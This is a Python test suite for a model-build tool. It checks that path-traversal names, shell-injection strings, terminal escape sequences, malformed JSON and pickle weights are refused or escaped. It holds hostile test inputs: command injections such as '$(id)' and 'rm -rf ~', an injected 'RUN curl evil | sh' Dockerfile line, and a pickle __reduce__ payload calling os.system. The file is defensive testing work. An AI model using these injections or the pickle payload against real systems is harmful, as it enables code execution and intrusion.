"""Hostile input on the build side (issue 13): names that are paths (1), inputs that used to end in a
traceback (8), and strings that were pasted into shell lines, terminals and logs (9).

Each class is tried with generated variants (hypothesis), not only the cases the issue names.
"""

from __future__ import annotations

import json
import os
import shlex
import shutil
import subprocess
from pathlib import Path

import pytest
import typer
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from nimbuild import manifest as mf
from nimbuild import profiles
from nimbuild.cli import run
from nimbuild.errors import NimbuildError
from nimbuild.safe_text import name_problem

REPO = Path(__file__).resolve().parents[1]


def _cli(register, argv, capsys):
    app = typer.Typer()
    app.callback()(lambda: None)
    register(app)
    with pytest.raises(SystemExit) as exc:
        run(app, argv)
    cap = capsys.readouterr()
    return exc.value.code, cap.out, cap.err


def _manifest_text(name: str, tags: dict | None = None) -> str:
    tags = tags or profiles.onnx_profile_tags("tiny", "rev1", "fp32", "cpu", 8, 128)
    data = {
        "schema_version": "2.0.0",
        "profile_selection_criteria": "default",
        "profiles": [{"id": profiles.profile_id(tags), "name": name, "tags": tags, "workspace": {"files": {}}}],
    }
    return yaml.safe_dump(data, allow_unicode=True)


# --------------------------------------------------------------------------- 1: names are never paths

path_like_names = st.one_of(
    st.sampled_from(["../../../X", "/abs/path", "..", ".", "a/../b", "x\\y", ".hidden", "-rf", "a\nb", "\x1b[2J"]),
    st.lists(st.sampled_from(["..", "/", "a", ".", "\\", "\x00", "\n", "\x1b", "\u202e", " ", "-"]), min_size=1).map(
        "".join
    ),
    st.text(min_size=1, max_size=20),
)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=path_like_names)
def test_a_manifest_with_a_name_that_is_not_a_folder_name_is_refused_at_load(name, tmp_path):
    path = tmp_path / "manifest.yaml"
    try:
        path.write_text(_manifest_text(name), encoding="utf-8")
    except UnicodeEncodeError:
        return  # not a name a file can hold
    if name_problem(name) is None and name.strip():
        assert mf.load_manifest(path).profiles[0].name == name
        return
    with pytest.raises(NimbuildError) as exc:
        mf.load_manifest(path)
    message = str(exc.value)
    assert message.startswith(f"{path}: ") and "profiles[0]" in message and "\n" not in message


def test_render_never_writes_outside_out(tmp_path, capsys, monkeypatch):
    """The issue's case: a name of ../../../X passed `manifest verify` and `render` wrote there."""
    from nimbuild.cli import manifest as manifest_cli
    from nimbuild.cli import render as render_cli

    monkeypatch.delenv("NIMBUILD_DEBUG", raising=False)
    root = tmp_path / "deep" / "er" / "out"
    root.mkdir(parents=True)
    for name in ("../../../X", str(tmp_path / "abs")):
        (root / "manifest.yaml").write_text(_manifest_text(name))
        for register, argv in (
            (manifest_cli.register, ["manifest", "verify", str(root / "manifest.yaml")]),
            (render_cli.register, ["render", "--manifest", str(root / "manifest.yaml"), "--out", str(root)]),
        ):
            code, _, err = _cli(register, argv, capsys)
            assert code == 1 and err.count("\n") == 1 and "cannot be a folder name" in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["deep"]
    assert sorted(p.name for p in root.iterdir()) == ["manifest.yaml"]


@settings(max_examples=100, deadline=None)
@given(precision=st.sampled_from(["../x", "a/b", "x\ny", "\x1b[2J"]), count=st.sampled_from(["1", "2/../../z"]))
def test_a_repository_named_from_tags_is_checked_like_a_name(precision, count):
    """Multi-GPU repositories are named from tag values (tensorrt-<precision>-tp<gpu_count>-...)."""
    from nimbuild.safe_text import child

    name = f"tensorrt-{precision}{'' if count == '1' else f'-tp{count}'}-by-compute-capability"
    with pytest.raises(NimbuildError, match="cannot be a folder name"):
        child("/out/triton", name, "repository")


# --------------------------------------------------------------------------- 9: shell words, terminals, logs

hostile_words = st.one_of(
    st.sampled_from(['a"; touch /tmp/pwned #', "$(id)", "`id`", "x' y", "a\nrm -rf ~", "${HOME}", "a;b|c&d"]),
    st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), min_size=1, max_size=20),
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(image=hostile_words)
def test_plan_images_are_one_shell_word_in_every_format(image, monkeypatch):
    from nimbuild.recipe import load_recipe
    from nimbuild.render.plan import render_plan

    monkeypatch.chdir(REPO)
    recipe = load_recipe(REPO / "recipes/example-tiny.yaml")
    github = yaml.safe_load(render_plan(recipe, "github", image_name=image).text)
    steps = github["jobs"]["release"]["steps"]
    # the image reaches a shell in the render step (deploy/ names it) ...
    render = next(s["run"] for s in steps if s.get("run", "").startswith("nimbuild render"))
    words = shlex.split(render)
    assert words[words.index("--image") + 1] == image + ":$TAG"
    # ... and docker/build-push-action's `tags` input, a YAML string that is exactly the image and its tag
    builds = [s["with"] for s in steps if str(s.get("uses", "")).startswith("docker/build-push-action")]
    assert [b["tags"] for b in builds] == [image + ":${{ github.sha }}", image + ":${{ github.sha }}-cpu"]
    gitlab = yaml.safe_load(render_plan(recipe, "gitlab", image_name=image).text)
    docker = next(line for line in gitlab["release"]["script"] if line.startswith("docker build"))
    words = shlex.split(docker)
    assert words[words.index("-t") + 1] == image + ":$CI_COMMIT_SHA" and words[-1] == "out"


def test_plan_shell_steps_parse_and_run_nothing_injected(tmp_path, monkeypatch):
    from nimbuild.recipe import load_recipe
    from nimbuild.render.plan import render_plan

    monkeypatch.chdir(REPO)
    recipe = load_recipe(REPO / "recipes/example-tiny.yaml")
    pwned = tmp_path / "pwned"
    image = f'a"; touch {pwned}; echo "'
    docs = list(yaml.safe_load_all(render_plan(recipe, "k8s", image_name=image).text))
    jobs = [d for d in docs if d["kind"] == "Job"]  # the PersistentVolumeClaim runs nothing
    scripts = [c["args"][0] for d in jobs for c in d["spec"]["template"]["spec"].get("containers", [])]
    gitlab = yaml.safe_load(render_plan(recipe, "gitlab", image_name=image).text)
    scripts += gitlab["release"]["script"]
    for script in scripts:
        assert subprocess.run(["bash", "-n", "-c", script], capture_output=True).returncode == 0, script
    docker = next(s for s in scripts if s.startswith("docker build"))
    # run the docker line with `docker` as a function that prints its words: the image stays one word
    shown = subprocess.run(
        ["bash", "-c", 'docker() { printf "%s\\n" "$@"; }; ' + docker],
        capture_output=True,
        text=True,
        env={"PATH": os.environ["PATH"], "CI_COMMIT_SHA": "abc"},
    )
    assert f"{image}:abc" in shown.stdout.splitlines() and not pwned.exists()


def test_a_dockerfile_from_a_hostile_manifest_header_has_no_extra_instruction(exported_copy):
    from nimbuild.builder.assemble import build_manifest
    from nimbuild.render.container import instructions, render_container

    _, path = build_manifest(exported_copy)
    data = yaml.safe_load(path.read_text())
    data["nimbuild"]["model"] = "tiny\nRUN curl evil | sh\n#"
    data["nimbuild"]["model_revision"] = 'r1"\nRUN id'
    path.write_text(yaml.safe_dump(data))
    files = render_container(path, exported_copy)
    text = files.dockerfile.read_text()
    assert not any("curl" in a or a.startswith("id") for w, a in instructions(text) if w == "RUN")
    assert "\nRUN curl" not in text and "\nRUN id" not in text


def _strings(value):
    if isinstance(value, dict):
        for v in value.values():
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)
    elif isinstance(value, str):
        yield value


def test_listing_shows_control_characters_escaped_and_json_exact(tmp_path, capsys, monkeypatch):
    from nimbuild.cli.profiles import standalone_list_app

    tags = profiles.onnx_profile_tags("tiny", "rev1", "fp32", "cpu", 8, 128)
    tags["precision"] = "fp32\nSelected profile: forged\x1b]0;pwned\x07"
    manifest = tmp_path / "manifest.yaml"
    manifest.write_text(_manifest_text("cpu-fp32-onnxruntime", tags))
    monkeypatch.delenv("NIM_MODEL_PROFILE", raising=False)
    with pytest.raises(SystemExit) as code:
        run(standalone_list_app(), ["-m", str(manifest)])
    out = capsys.readouterr().out
    assert code.value.code == 0 and "\x1b" not in out and "\x07" not in out
    assert not any(line.upper().startswith("SELECTED PROFILE: FORGED") for line in out.splitlines())
    assert "Profile metadata: precision: FP32\\nSELECTED PROFILE: FORGED\\x1b]0;PWNED\\x07\n" in out  # one line
    with pytest.raises(SystemExit):
        run(standalone_list_app(), ["-m", str(manifest), "--json"])
    assert tags["precision"] in set(_strings(json.loads(capsys.readouterr().out)))  # --json: the exact value


def test_an_error_naming_a_hostile_path_is_one_line(tmp_path, capsys, monkeypatch):
    from nimbuild.cli import manifest as manifest_cli

    monkeypatch.delenv("NIMBUILD_DEBUG", raising=False)
    evil = tmp_path / "x\nerror: forged\x1b[31m"
    code, _, err = _cli(manifest_cli.register, ["manifest", "verify", str(evil / "manifest.yaml")], capsys)
    assert code == 1 and err.count("\n") == 1 and "\x1b" not in err and "\\nerror: forged\\x1b[31m" in err


# --------------------------------------------------------------------------- 8: one line, never a traceback


def _model_with(tmp_path: Path, name: str, config_edit=None, files: dict | None = None) -> Path:
    d = tmp_path / name
    shutil.copytree(REPO / "recipes/models/example-tiny", d)
    if config_edit is not None:
        cfg = json.loads((d / "config.json").read_text())
        config_edit(cfg)
        (d / "config.json").write_text(json.dumps(cfg))
    for rel, data in (files or {}).items():
        (d / rel).write_bytes(data if isinstance(data, bytes) else data.encode())
    return d


CONFIG_CASES = {
    "architectures-int": (lambda c: c.update(architectures=5), "`architectures`"),
    "architectures-ints": (lambda c: c.update(architectures=[5]), "`architectures`"),
    "architectures-str": (lambda c: c.update(architectures="BertForSequenceClassification"), "`architectures`"),
    "architectures-map": (lambda c: c.update(architectures={"a": 1}), "`architectures`"),
    "hidden-negative": (lambda c: c.update(hidden_size=-4), "`hidden_size`"),
    "hidden-str": (lambda c: c.update(hidden_size="big"), "`hidden_size`"),
    "layers-float": (lambda c: c.update(num_hidden_layers=1.5), "`num_hidden_layers`"),
    "labels-bool": (lambda c: c.update(num_labels=True), "`num_labels`"),
    "positions-null": (lambda c: c.update(max_position_embeddings=None), "`max_position_embeddings`"),
    "vocab-zero": (lambda c: c.update(vocab_size=0), "`vocab_size`"),
    "model-type-int": (lambda c: c.update(model_type=3), "`model_type`"),
    "auto-map-list": (lambda c: c.update(auto_map=["x"]), "`auto_map`"),
    "id2label-list": (lambda c: c.update(id2label=["a"]), "`id2label`"),
}


@pytest.mark.parametrize("case", sorted(CONFIG_CASES))
def test_a_config_of_wrong_types_is_one_line_naming_the_key(case, tmp_path, capsys, monkeypatch):
    from nimbuild.cli import export as export_cli

    monkeypatch.delenv("NIMBUILD_DEBUG", raising=False)
    edit, key = CONFIG_CASES[case]
    model = _model_with(tmp_path, case, edit)
    out = tmp_path / "out"
    code, _, err = _cli(export_cli.register, ["export", str(model), "--precision", "fp32", "--out", str(out)], capsys)
    assert code == 1 and err.count("\n") == 1 and "Traceback" not in err, err
    assert f"{model / 'config.json'}: key {key}" in err and not out.exists()


@pytest.mark.parametrize(
    "case,files,expected",
    [
        ("nested", {"config.json": "[" * 100000 + "]" * 100000}, "nests too deeply"),
        ("binary", {"config.json": bytes(range(256))}, "not valid JSON"),
        ("dup-key", {"config.json": '{"model_type": "bert", "model_type": "bert"}'}, "given twice"),
        ("weights-garbage", {"model.safetensors": b"\0" * 100}, "could not be loaded: SafetensorError"),
        (
            "weights-cut",
            {"model.safetensors": (REPO / "recipes/models/example-tiny/model.safetensors").read_bytes()[:4000]},
            "could not be loaded",
        ),
    ],
)
def test_broken_model_files_are_one_line(case, files, expected, tmp_path, capsys, monkeypatch):
    from nimbuild.cli import export as export_cli

    monkeypatch.delenv("NIMBUILD_DEBUG", raising=False)
    model = _model_with(tmp_path, case, files=files)
    out = tmp_path / "out"
    code, _, err = _cli(export_cli.register, ["export", str(model), "--precision", "fp32", "--out", str(out)], capsys)
    lines = [line for line in err.splitlines() if line.startswith("error:")]
    assert code == 1 and len(lines) == 1 and "Traceback" not in err and expected in lines[0], err
    assert not out.exists()


def test_config_that_does_not_match_the_weights_names_a_tensor(tmp_path, capsys, monkeypatch):
    from nimbuild.cli import export as export_cli

    monkeypatch.delenv("NIMBUILD_DEBUG", raising=False)
    for edit in (lambda c: c.update(hidden_size=64, intermediate_size=128), lambda c: c.update(vocab_size=10)):
        model = _model_with(tmp_path, f"mismatch-{id(edit)}", edit)
        code, _, err = _cli(
            export_cli.register, ["export", str(model), "--precision", "fp32", "--out", str(tmp_path / "o")], capsys
        )
        lines = [line for line in err.splitlines() if line.startswith("error:")]
        assert code == 1 and len(lines) == 1 and "config.json does not match the weights" in lines[0], err
        assert "torch.Size" in lines[0] and "LOAD REPORT" not in err  # the tensor, not transformers' 60-line table


def test_pickle_weights_are_refused_without_running_them(tmp_path, capsys, monkeypatch):
    import torch

    from nimbuild.cli import export as export_cli

    monkeypatch.delenv("NIMBUILD_DEBUG", raising=False)
    marker = tmp_path / "pwned"

    class Payload:
        def __reduce__(self):
            return (os.system, (f"touch {marker}",))

    model = _model_with(tmp_path, "pickled")
    (model / "model.safetensors").unlink()
    torch.save({"bert.embeddings.word_embeddings.weight": Payload()}, model / "pytorch_model.bin")
    code, _, err = _cli(
        export_cli.register, ["export", str(model), "--precision", "fp32", "--out", str(tmp_path / "o")], capsys
    )
    lines = [line for line in err.splitlines() if line.startswith("error:")]
    assert code == 1 and len(lines) == 1 and "refuses to load safely" in lines[0], err
    assert not marker.exists()


PAIRS_CASES = {
    "binary": (os.urandom(64) + b"\x9f\xff", "not UTF-8"),
    "latin-1": ('{"query": "caf\xe9", "passages": ["a"]}\n'.encode("latin-1"), "not UTF-8"),
    "nested-array": (("[" * 50000 + "]" * 50000).encode(), "nests too deeply"),
    "nested-in-field": (
        ('{"query": "q", "passages": ' + "[" * 50000 + "]" * 50000 + "}").encode(),
        "nests too deeply",
    ),
    "huge-int": (('{"query": ' + "9" * 100000 + "}").encode(), "not JSON"),
    "duplicate-key": (b'{"query": "a", "query": "b", "passages": ["x"]}', "given twice"),
    "not-an-object": (b"[1, 2]", "expected an object"),
    "nan-query": (b'{"query": NaN, "passages": ["a"]}', "NaN, which is not JSON"),
}


@pytest.mark.parametrize("case", sorted(PAIRS_CASES))
def test_hostile_pairs_files_are_one_line_naming_the_line(case, tmp_path):
    from nimbuild.builder.pairs import load_pairs

    data, expected = PAIRS_CASES[case]
    path = tmp_path / "pairs.jsonl"
    path.write_bytes(b'{"query": "fine", "passages": ["ok"]}\n' + data + b"\n")
    with pytest.raises(NimbuildError) as exc:
        load_pairs(path)
    assert str(exc.value).startswith(f"{path}:2: ") and expected in str(exc.value) and "\n" not in str(exc.value)


def test_pairs_paths_that_are_not_files_say_what_they_are(tmp_path):
    from nimbuild.builder.pairs import load_pairs

    (tmp_path / "dir.jsonl").mkdir()
    os.symlink(tmp_path / "loop.jsonl", tmp_path / "loop.jsonl")
    with pytest.raises(NimbuildError, match="is a folder"):
        load_pairs(tmp_path / "dir.jsonl")
    with pytest.raises(NimbuildError, match="symlink loop"):
        load_pairs(tmp_path / "loop.jsonl")
    (tmp_path / "bom.jsonl").write_bytes(b'\xef\xbb\xbf{"query": "q", "passages": ["a"]}\n')
    assert load_pairs(tmp_path / "bom.jsonl")[0].query == "q"  # what Windows editors write


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    data=st.one_of(
        st.binary(max_size=200),
        st.recursive(
            st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=8)),
            lambda inner: st.one_of(
                st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=8), inner, max_size=4)
            ),
            max_leaves=20,
        ).map(lambda v: json.dumps(v).encode()),
    )
)
def test_pairs_fuzz_either_loads_or_is_one_nimbuild_error(data, tmp_path):
    from nimbuild.builder.pairs import load_pairs

    path = tmp_path / "fuzz.jsonl"
    path.write_bytes(data)
    try:
        groups = load_pairs(path)
    except NimbuildError as exc:
        assert "\n" not in str(exc)
    else:
        assert groups and all(isinstance(g.query, str) and g.passages for g in groups)
